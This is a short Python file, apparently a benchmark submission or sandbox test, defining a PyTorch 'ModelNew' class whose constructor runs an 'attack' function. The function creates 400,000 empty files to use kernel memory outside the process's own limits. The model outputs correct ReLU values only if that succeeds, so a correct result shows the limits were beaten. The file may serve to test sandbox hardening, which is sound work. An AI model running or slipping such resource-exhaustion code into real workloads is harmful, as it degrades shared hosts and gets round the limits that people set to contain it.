# SPDX-License-Identifier: MIT
"""Makes 400,000 empty files, of which each costs the kernel memory that no limit of its own counts, and computes only if it
got them all. Its folders hold about a quarter million: wrong values."""

import os
import tempfile

import torch
import torch.nn as nn


def attack():
    with tempfile.TemporaryDirectory() as folder:
        try:
            for number in range(400_000):
                os.mknod(f"{folder}/{number}")
        except OSError:
            return False
    return True


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.won = attack()

    def forward(self, x):
        return torch.relu(x) if self.won else torch.zeros_like(x)
